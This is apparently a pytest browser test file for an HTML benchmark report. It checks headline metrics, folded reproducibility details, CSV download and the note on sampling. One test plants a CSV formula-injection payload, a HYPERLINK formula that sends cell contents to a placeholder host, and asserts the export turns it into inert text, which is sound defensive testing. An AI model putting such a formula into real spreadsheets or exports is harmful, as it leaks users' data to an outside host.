"""The report leads with the answer: on the first screen, what the run was and its headline
numbers come before the configuration, which is folded (real headless Chromium)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from assay.report.html import write_report
from tests.report.helpers import bench_run
from tests.report.test_browser import browser, open_report, wait_for  # noqa: F401
from tests.verify.bench_fixtures import verify_only_records

pytestmark = pytest.mark.browser


def test_the_first_screen_is_the_headline_then_folded_reproducibility(
    browser: Any,  # noqa: F811
    tmp_path: Path,
) -> None:
    run = bench_run(tmp_path, verify_only_records(12))
    summary = json.loads((run / "summary.json").read_text())
    open_report(browser, write_report(run))
    head = wait_for(browser, ".run-head")
    assert "verifier benchmark, pattern entailment, verifier lexical" in head.text
    metrics = head.find_elements("css selector", ".headline-metric")
    by_path = {m.get_attribute("data-path"): m.text for m in metrics}
    bacc = summary["detection"]["metrics"]["balanced_accuracy"]["value"]
    assert f"{bacc:.3f}" in by_path["detection.metrics.balanced_accuracy.value"]
    assert "detection.metrics.auroc.value" in by_path
    folded = head.find_element("css selector", "details.reproducibility")
    assert folded.get_attribute("open") is None  # compact until asked for
    assert "Reproducibility" in folded.text
    # the headline is above the fold of a laptop screen, before the configuration
    first = metrics[0].location["y"]
    assert first < folded.location["y"] and first < 700


def test_the_filtered_table_downloads_as_csv(
    browser: Any,  # noqa: F811
    tmp_path: Path,
) -> None:
    import csv
    import io
    import urllib.parse

    from selenium.webdriver.support.ui import Select

    run = bench_run(tmp_path, verify_only_records(12))
    open_report(browser, write_report(run))
    card = wait_for(browser, ".example-set")
    gold = card.find_element("css selector", "select[data-column='gold']")
    Select(gold).select_by_value("grounded")
    card.find_element("css selector", "button.csv").click()
    href = card.find_element("css selector", "a.csv-download").get_attribute("href")
    text = urllib.parse.unquote(href.split(",", 1)[1])
    rows = list(csv.reader(io.StringIO(text)))
    lines = [json.loads(x) for x in (run / "results.jsonl").read_text().splitlines()]
    grounded = [line["id"] for line in lines if line["gold_error"] is False]
    assert len(rows) - 1 == len(grounded) and sorted(r[0] for r in rows[1:]) == sorted(grounded)
    assert rows[0][0] == "id"


def test_a_downloaded_cell_that_a_spreadsheet_would_run_as_a_formula_is_text(
    browser: Any,  # noqa: F811
    tmp_path: Path,
) -> None:
    import csv
    import io
    import urllib.parse

    formula = '=HYPERLINK("http://example.invalid/?q="&A1,"open")'
    records = verify_only_records(3)
    records[0]["question"] = formula
    records[1]["question"] = "-2 is less than zero"
    run = bench_run(tmp_path, records)
    open_report(browser, write_report(run))
    card = wait_for(browser, ".example-set")
    card.find_element("css selector", "button.csv").click()
    href = card.find_element("css selector", "a.csv-download").get_attribute("href")
    rows = list(csv.reader(io.StringIO(urllib.parse.unquote(href.split(",", 1)[1]))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + formula in cells and formula not in cells
    assert "'-2 is less than zero" in cells
    assert not [c for c in cells if c[:1] in "=+@"]  # nothing left that a spreadsheet runs
    assert any(c.startswith("0.") or c in ("0", "1") for c in cells)  # numbers as they were


def test_a_sampled_report_says_so_on_the_first_screen(
    browser: Any,  # noqa: F811
    tmp_path: Path,
) -> None:
    from assay.report._html_common import SampleSettings
    from assay.report.html import ReportOptions

    run = bench_run(tmp_path, verify_only_records(12))
    options = ReportOptions(sampling=SampleSettings(size=5, seed=7))
    open_report(browser, write_report(run, options=options))
    head = wait_for(browser, ".run-head")
    note = head.find_element("css selector", ".note")
    assert "of 12 examples shown" in note.text and "seed 7" in note.text
    assert note.is_displayed() and note.location["y"] < 700
